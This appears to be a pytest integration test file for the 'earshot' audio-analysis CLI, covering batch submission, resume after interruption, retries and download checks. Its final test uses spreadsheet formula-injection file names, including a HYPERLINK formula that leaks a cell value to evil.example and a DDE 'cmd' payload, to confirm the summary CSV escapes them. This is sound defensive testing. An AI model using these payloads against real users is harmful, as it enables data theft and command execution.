"""``earshot submit``/``status``/``fetch`` against a real service started with ``earshot dev``.

A batch with good and broken files, its repeat (nothing re-sent), and a run interrupted with
SIGINT halfway then resumed (no duplicate job).
"""

from __future__ import annotations

import csv
import io
import json
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pytest

from tests.earshot.batch_doc import documented_columns
from tests.integration.submit_fixtures import (
    REPO,
    SAMPLES,
    Service,
    broken_files,
    free_port,
    other_server,
    run_cli,
    sample_tree,
    service,
)

__all__ = ["service"]  # a fixture, imported so pytest finds it here

KNOWN = {
    # clip -> (tempo BPM or None, tonic, mode or None), from samples/README.md
    "click120_cmajor": (120.0, "C", "major"),
    "aminor_progression": (None, "A", "minor"),
}


def manifest(out: Path) -> dict[str, dict[str, Any]]:
    lines = (out / "manifest.jsonl").read_text().splitlines()
    records = [json.loads(line) for line in lines]  # every line whole: no torn record
    return {r["path"]: r for r in records}


def summary(out: Path) -> dict[str, dict[str, str]]:
    with (out / "summary.csv").open(newline="") as fh:
        return {row["path"]: row for row in csv.DictReader(fh)}


def events(stdout: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in stdout.splitlines() if line.strip()]


def read_frames_csv(path: Path) -> tuple[list[str], list[list[float]]]:
    """Header and rows of a frame CSV, every data cell parsed as a float (or it fails)."""
    with path.open(newline="", encoding="utf-8") as fh:
        header, *rows = list(csv.reader(fh))
    return header, [[float(cell) for cell in row] for row in rows]


def assert_result_files(json_path: Path, csv_path: Path, npz_path: Path) -> None:
    """Each file is what its name says, checked with the csv module, numpy.load and json.

    The expected frame count comes from the document's duration and hop: ``1 + n // hop``
    frames of the 22050 Hz signal, so within one frame of ``1 + duration_s / hop_s``.
    """
    doc = json.loads(json_path.read_text(encoding="utf-8"))
    hop_s = doc["frames"]["hop_s"]
    names = doc["frames"]["names"]
    expected = 1 + doc["audio"]["duration_s"] / hop_s
    assert csv_path.read_bytes().startswith(b"time_s,"), csv_path.read_bytes()[:40]
    header, rows = read_frames_csv(csv_path)
    assert header == ["time_s", *names], header
    assert abs(len(rows) - expected) <= 1, (len(rows), expected)
    assert all(len(row) == len(header) for row in rows)
    assert rows[1][0] - rows[0][0] == pytest.approx(hop_s, rel=1e-5)

    assert npz_path.read_bytes()[:4] == b"PK\x03\x04"  # a zip archive, as .npz files are
    with np.load(npz_path) as npz:
        assert set(npz.files) == {"time_s", "hop_s", *names}
        assert float(npz["hop_s"]) == pytest.approx(hop_s)
        assert npz["time_s"].shape == (len(rows),)
        for i, name in enumerate(names, start=1):
            assert npz[name].shape == (len(rows),)
            # The CSV prints 7 significant digits of the same float32 series.
            column = np.array([row[i] for row in rows], dtype=np.float64)
            np.testing.assert_allclose(column, npz[name].astype(np.float64), rtol=1e-6, atol=0)


def test_batch_with_broken_files_then_a_repeat_that_sends_nothing(
    service: Service, tmp_path: Path
) -> None:
    inputs = tmp_path / "in"
    good = sample_tree(inputs)
    broken = broken_files(inputs)
    (inputs / "lossy" / "cover.txt").write_text("not picked: not an audio extension")
    out = tmp_path / "out"
    args = ["submit", str(inputs), "--out", str(out), "--api-url", service.url]
    args += ["--format", "json,csv,npz", "--poll-interval", "0.2", "--json"]

    first = run_cli(*args, check_rc=1)

    records = manifest(out)
    assert set(records) == set(good) | set(broken)
    for rel in good:
        record = records[rel]
        assert record["status"] == "succeeded", record
        assert record["job_id"]
        assert sorted(record["outputs"]) == sorted(f"{rel}.{f}" for f in ("json", "csv", "npz"))
        assert all((out / o).stat().st_size > 0 for o in record["outputs"])
        assert json.loads((out / f"{rel}.json").read_text())["audio"]["duration_s"] > 0
    for rel in broken:
        record = records[rel]
        assert record["status"] == "failed", record
        assert record["error"]["code"] and record["error"]["message"], record
    ignored = [e for e in events(first.stdout) if e["event"] == "ignored"]
    assert [Path(e["path"]).name for e in ignored] == ["cover.txt"]

    for rel in good:
        assert_result_files(*(out / f"{rel}.{fmt}" for fmt in ("json", "csv", "npz")))
    # What the API itself serves for each format, byte for byte what the client wrote.
    served_job = records["lossless/wav/click120_cmajor.wav"]["job_id"]
    with httpx.Client(base_url=service.url, timeout=30) as client:
        links = client.get(f"/v1/analyses/{served_job}").raise_for_status().json()["links"]
        for fmt, link, media_type, start in (
            ("json", links["result"], "application/json", b"{"),
            ("csv", links["csv"], "text/csv", b"time_s,"),
            ("npz", links["npz"], "application/zip", b"PK\x03\x04"),
        ):
            served = client.get(link).raise_for_status()
            assert served.headers["content-type"].split(";")[0] == media_type, (fmt, link)
            assert served.content.startswith(start), (fmt, served.content[:40])
            written = (out / f"lossless/wav/click120_cmajor.wav.{fmt}").read_bytes()
            assert written == served.content, fmt
    assert zipfile.is_zipfile(io.BytesIO(written))

    with (out / "summary.csv").open(newline="", encoding="utf-8") as fh:
        assert next(csv.reader(fh)) == documented_columns()
    rows = summary(out)
    assert set(rows) == set(good) | set(broken)
    for rel in broken:
        row, record = rows[rel], records[rel]
        assert (row["status"], row["error"]) == ("failed", record["error"]["code"]), row
        assert row["error_message"] == record["error"]["message"]
        assert row["tempo_bpm"] == "" and row["analyzer_version"] == ""
    for rel in good:
        row = rows[rel]
        assert (row["status"], row["error"], row["profile"]) == ("succeeded", "", "standard")
        assert row["job_id"] == records[rel]["job_id"] and row["analyzer_version"]
        assert int(row["beat_count"]) == len(
            json.loads((out / f"{rel}.json").read_text())["summary"]["beats_s"]
        )
        clip = Path(rel).stem
        if clip in KNOWN:
            bpm, tonic, mode = KNOWN[clip]
            assert (row["key"], row["mode"]) == (tonic, mode), (rel, row["key"], row["mode"])
            if bpm is not None:
                assert abs(float(row["tempo_bpm"]) - bpm) <= 2.0, (rel, row["tempo_bpm"])
        assert float(row["duration_s"]) > 0 and row["loudness_lufs"] != ""

    jobs_after_first = len(service.jobs())
    # Good files plus the truncated FLAC (accepted, fails in the worker); the text file and
    # the empty file are refused at upload and never become jobs.
    assert jobs_after_first == len(good) + 1

    second = run_cli(*args, check_rc=1)
    kinds = [e["event"] for e in events(second.stdout)]
    assert "uploaded" not in kinds
    assert kinds.count("skipped") == len(good)
    assert kinds.count("failed") == len(broken)
    assert len(service.jobs()) == jobs_after_first
    assert set(summary(out)) == set(good) | set(broken)

    job_id = records["lossless/wav/click120_cmajor.wav"]["job_id"]
    status = run_cli("status", job_id, "--json", "--api-url", service.url, check_rc=0)
    assert json.loads(status.stdout)["status"] == "succeeded"
    fetched = tmp_path / "fetched"
    run_cli(
        "fetch",
        job_id,
        "--out",
        str(fetched),
        "--format",
        "csv",
        "--api-url",
        service.url,
        check_rc=0,
    )
    assert json.loads((fetched / f"{job_id}.json").read_text()) == json.loads(
        (out / "lossless/wav/click120_cmajor.wav.json").read_text()
    )
    header, frames = read_frames_csv(fetched / f"{job_id}.csv")
    assert header[0] == "time_s" and len(frames) > 1
    assert (fetched / f"{job_id}.csv").read_bytes() == (
        out / "lossless/wav/click120_cmajor.wav.csv"
    ).read_bytes()


def test_interrupted_run_resumes_without_duplicate_jobs(service: Service, tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    good = sample_tree(inputs)
    out = tmp_path / "out"
    # The "fast" profile keeps these jobs apart from the other test's (same files, same
    # service): each is new work, counted by profile below.
    args = ["submit", str(inputs), "--out", str(out), "--api-url", service.url]
    args += ["--profile", "fast", "--concurrency", "1", "--poll-interval", "0.2"]

    proc = subprocess.Popen(
        [sys.executable, "-m", "earshot", *args],
        cwd=REPO,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    manifest_path = out / "manifest.jsonl"
    while proc.poll() is None:
        if manifest_path.exists() and '"succeeded"' in manifest_path.read_text():
            proc.send_signal(signal.SIGINT)
            break
        time.sleep(0.05)
    stdout, stderr = proc.communicate(timeout=300)
    assert proc.returncode == 130, (proc.returncode, stdout, stderr)

    records = manifest(out)
    done = {rel for rel, r in records.items() if r["status"] == "succeeded"}
    assert 1 <= len(done) < len(good)
    assert all(r["status"] in ("queued", "running", "succeeded") for r in records.values())
    # Every input has its row, the ones never sent too.
    statuses = {rel: row["status"] for rel, row in summary(out).items()}
    assert set(statuses) == set(good)
    assert {rel for rel, status in statuses.items() if status == "succeeded"} == done
    assert set(statuses.values()) <= {"queued", "running", "succeeded", "not_submitted"}

    run_cli(*args, check_rc=0)

    records = manifest(out)
    assert set(records) == set(good)
    assert all(r["status"] == "succeeded" for r in records.values())
    fast_jobs = [j for j in service.jobs() if j["profile"] == "fast"]
    assert len(fast_jobs) == len(good)
    assert {j["id"] for j in fast_jobs} == {r["job_id"] for r in records.values()}
    assert set(summary(out)) == set(good)


def test_usage_errors_exit_2(tmp_path: Path) -> None:
    missing = run_cli("submit", str(tmp_path / "nope"), "--out", str(tmp_path / "o"))
    assert missing.returncode == 2 and "no such file" in missing.stderr
    (tmp_path / "empty").mkdir()
    nothing = run_cli("submit", str(tmp_path / "empty"), "--out", str(tmp_path / "o"))
    assert nothing.returncode == 2 and "no audio files" in nothing.stderr
    no_out = run_cli("submit", str(tmp_path / "empty"))
    assert no_out.returncode == 2 and "--out" in no_out.stderr


pytestmark = pytest.mark.filterwarnings("error")


# Not a speed assertion: a bound so the old behaviour (36 retry lines over about a minute)
# fails the test instead of passing slowly.
WRONG_URL_BOUND_S = 15.0


def test_wrong_api_url_with_nobody_listening_fails_at_once(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    sample_tree(inputs)
    out = tmp_path / "out"
    nobody = f"http://127.0.0.1:{free_port()}"
    done = run_cli(
        "submit", str(inputs), "--out", str(out), "--api-url", nobody, timeout=WRONG_URL_BOUND_S
    )
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert f"cannot connect to {nobody}" in done.stderr and "refused" in done.stderr
    assert "retrying" not in done.stderr + done.stdout
    assert not out.exists()  # nothing sent, nothing recorded, no folder made
    for command in (["status", "abc"], ["fetch", "abc", "--out", str(out)]):
        other = run_cli(*command, "--api-url", nobody, timeout=WRONG_URL_BOUND_S)
        assert other.returncode == 1 and f"cannot connect to {nobody}" in other.stderr


@pytest.mark.parametrize(
    ("status", "content_type", "body"),
    [
        (404, "text/html", b"<h1>Not Found</h1>"),
        (200, "text/html", b"<html>some other web app</html>"),
        (200, "application/json", b'{"status": "healthy"}'),
    ],
)
def test_wrong_api_url_answered_by_another_server_fails_at_once(
    tmp_path: Path, status: int, content_type: str, body: bytes
) -> None:
    inputs = tmp_path / "in"
    sample_tree(inputs)
    out = tmp_path / "out"
    with other_server(lambda method, path: (status, content_type, body)) as other:
        done = run_cli(
            "submit",
            str(inputs),
            "--out",
            str(out),
            "--api-url",
            other.url,
            timeout=WRONG_URL_BOUND_S,
        )
        assert done.returncode == 2, (done.stdout, done.stderr)
        assert f"{other.url}/healthz answered {status}" in done.stderr, done.stderr
        assert "not an earshot" in done.stderr or "not earshot" in done.stderr, done.stderr
        assert other.requests == [("GET", "/healthz")]  # no upload was tried
        assert not out.exists()
        fetched = run_cli(
            "fetch", "abc", "--out", str(out), "--api-url", other.url, timeout=WRONG_URL_BOUND_S
        )
        assert fetched.returncode == 2 and "/healthz answered" in fetched.stderr


def test_transient_errors_mid_batch_are_still_retried(tmp_path: Path) -> None:
    # Healthy at the start, then every request answers 503 (a proxy whose backend went away):
    # each upload is retried --max-retries times, then the file fails and the batch goes on.
    inputs = tmp_path / "in"
    good = sample_tree(inputs)
    out = tmp_path / "out"

    def answer(method: str, path: str) -> tuple[int, str, bytes]:
        if path == "/healthz":
            return 200, "application/json", b'{"status": "ok"}'
        return 503, "application/problem+json", b'{"code": "busy", "detail": "try later"}'

    with other_server(answer) as proxy:
        done = run_cli(
            "submit",
            str(inputs),
            "--out",
            str(out),
            "--api-url",
            proxy.url,
            "--max-retries",
            "2",
            "--json",
            timeout=300,
        )
    assert done.returncode == 1, (done.stdout, done.stderr)
    uploads = [r for r in proxy.requests if r == ("POST", "/v1/analyses")]
    assert len(uploads) == 3 * len(good)  # the first try and 2 retries per file
    kinds = [e["event"] for e in events(done.stdout)]
    assert kinds.count("retry") == 2 * len(good)
    records = manifest(out)
    assert set(records) == set(good)
    assert {r["error"]["code"] for r in records.values()} == {"busy"}


def test_a_download_of_the_wrong_type_fails_the_input_and_writes_nothing(tmp_path: Path) -> None:
    # A proxy in front of the API that answers one format with its HTML login page: the client
    # must not store that page as the .csv (it did, exit 0, before the Content-Type check).
    inputs = tmp_path / "in"
    inputs.mkdir()
    (inputs / "a.ogg").write_bytes((SAMPLES / "sine440.ogg").read_bytes())
    out = tmp_path / "out"
    own = "/v1/analyses/j1"
    job = {
        "id": "j1",
        "status": "succeeded",
        "links": {"result": f"{own}/result", "csv": f"{own}/result?format=csv"},
    }

    def answer(method: str, path: str) -> tuple[int, str, bytes]:
        if path == "/healthz":
            return 200, "application/json", b'{"status": "ok"}'
        if (method, path) in (("POST", "/v1/analyses"), ("GET", own)):
            return 202 if method == "POST" else 200, "application/json", json.dumps(job).encode()
        if path == f"{own}/result?format=json":
            return 200, "application/json", b'{"audio": {"duration_s": 1.0}}'
        return 200, "text/html", b"<html>please log in</html>"

    with other_server(answer) as proxy:
        done = run_cli(
            "submit",
            str(inputs),
            "--out",
            str(out),
            "--api-url",
            proxy.url,
            "--format",
            "json,csv",
            timeout=300,
        )
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert ("GET", f"{own}/result?format=csv") in proxy.requests
    record = manifest(out)["a.ogg"]
    assert record["status"] == "failed" and record["error"]["code"] == "unexpected_content_type"
    assert "text/html" in record["error"]["message"] and "text/csv" in record["error"]["message"]
    assert not (out / "a.ogg.csv").exists()
    assert sorted(p.name for p in out.iterdir()) == ["a.ogg.json", "manifest.jsonl", "summary.csv"]


def test_summary_of_files_named_like_formulas_opens_as_text(
    service: Service, tmp_path: Path
) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    names = [
        '=HYPERLINK("evil.example?leak="&A1,"click").ogg',
        "+cmd|' -C calc'!A0.ogg",
        "-2+3.ogg",
        "@SUM(A1:A9).ogg",
        "\tTAB.ogg",
        "\rCR.ogg",
    ]
    for name in names:
        # One content for all: the server answers every upload after the first from that job.
        (inputs / name).write_bytes((SAMPLES / "sine440.ogg").read_bytes())
    out = tmp_path / "out"
    run_cli(
        "submit",
        str(inputs),
        "--out",
        str(out),
        "--api-url",
        service.url,
        "--poll-interval",
        "0.2",
        check_rc=0,
    )
    with (out / "summary.csv").open(newline="", encoding="utf-8") as fh:
        header, *rows = list(csv.reader(fh))
    assert len(rows) == len(names)
    col = {name: i for i, name in enumerate(header)}
    assert sorted(row[col["path"]] for row in rows) == sorted(f"'{name}" for name in names)
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only a number may start like a formula
        assert float(row[col["loudness_lufs"]]) < 0  # negative numbers stay numbers
